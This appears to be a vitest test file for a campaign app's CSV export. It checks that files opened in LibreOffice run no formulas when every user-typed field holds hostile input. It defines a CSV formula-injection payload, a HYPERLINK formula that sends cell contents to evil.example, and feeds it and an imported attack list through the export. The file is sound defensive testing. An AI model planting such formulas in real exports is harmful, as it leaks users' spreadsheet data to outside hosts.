import { execFile } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { promisify } from 'node:util'
import { expect, type TestContext, test } from 'vitest'
import { writeCsv } from '../../app/domain/csv'
import {
  csvProfileOf,
  type ExportChoice,
  exportNames,
  exportProfiles,
  isToolProfile,
  wholeExport,
} from '../../app/domain/export/choice'
import { exportPages } from '../../app/domain/export/export'
import { openWorld } from '../store/contract/world'
import { ashford, campaignText, members, placesDraft } from '../support/campaign'
import { letterDraft } from '../support/drafts'
import { attacks } from '../support/hostile'
import { testPorts } from '../support/ports'
import { openTestStore, testFolder } from '../support/store'

const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

test('LibreOffice opens every export as it was written, and runs nothing in it, whatever anybody typed anywhere', async context => {
  // it takes some seconds to start
  const { ports, campaign } = await hostileWorld()
  const folder = testFolder()
  const rows = new Map<string, number>()
  for (const choice of everyChoice()) {
    let csv = ''
    for await (const chunk of writeCsv(exportPages(ports, campaign, choice), csvProfileOf(choice.profile)))
      csv += chunk
    const name = `${choice.name}-${choice.profile}`
    writeFileSync(join(folder, `${name}.csv`), csv)
    rows.set(name, csv.match(/(?:"(?:[^"]|"")*"|[^"\r\n])*\r\n/g)?.length ?? 0)
  }
  await convert(context, folder, [...rows.keys()])

  for (const [name, written] of rows) {
    const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8')
    const opened = sheet.match(/<table:table-row\b(?:(?!<\/table:table-row>)[\s\S])*<text:p>/g) ?? []
    expect(opened, name).toHaveLength(written)
    // The profile for programs is what a spreadsheet makes of the same words when nobody holds it back.
    if (name === 'signatures-machine') expect(sheet).toContain('table:formula')
    else if (!name.endsWith('machine')) expect(sheet, name).not.toContain('table:formula')
  }
})

function everyChoice(): readonly ExportChoice[] {
  return exportProfiles.flatMap(profile =>
    isToolProfile(profile)
      ? [wholeExport('signatures', profile)]
      : exportNames.map(name => wholeExport(name, profile)),
  )
}

/** Somebody typed a formula wherever words can be typed. */
async function hostileWorld() {
  const text = campaignText({ title: hostile, summary: hostile })
  const world = await openWorld(() => openTestStore().store, { text })
  const { store, clock, campaign, signAndConfirm, sign, collect } = world
  const member = members.slice(0, 1).map(one => ({ ...one, name: hostile }))
  const places = placesDraft({
    constituencies: [{ ...ashford, name: hostile, region: hostile }],
    members: member,
    postcodes: { 'ZZ1 1AA': ashford.code },
  })
  await store.importPlaces(places, clock.now(), 'save')
  for (const [index, name] of [
    hostile,
    ...attacks.map(one => one.replaceAll('\u0000', '')),
    'Rosa Lind',
  ].entries()) {
    const odd = { name, email: `${index}@example.org`, updates: true }
    await sign({ ...odd, email: `not.${odd.email}` })
    const { letter } = await signAndConfirm({
      ...odd,
      source: hostile,
      postcode: hostile,
      letter: letterDraft(hostile),
    })
    await collect()
    if (!letter) continue
    const told = { answer: 'answered', position: 'agrees', days: 1, words: `${hostile}\n${hostile}` } as const
    await store.recordReply({ letterId: letter.id, ...told, answeredAt: clock.now() })
  }
  return { ports: testPorts(store, clock), campaign }
}

async function convert(context: TestContext, folder: string, names: readonly string[]): Promise<void> {
  const files = names.map(name => join(folder, `${name}.csv`))
  const profile = `-env:UserInstallation=file://${resolve(folder, 'profile')}`
  try {
    await promisify(execFile)(
      'soffice',
      [profile, '--headless', '--convert-to', 'fods', '--outdir', folder, ...files],
      { timeout: 300_000 },
    )
  } catch (fault) {
    if ((fault as NodeJS.ErrnoException).code !== 'ENOENT') throw fault
    context.skip('LibreOffice is missing: apt-get install --no-install-recommends libreoffice-calc')
  }
}
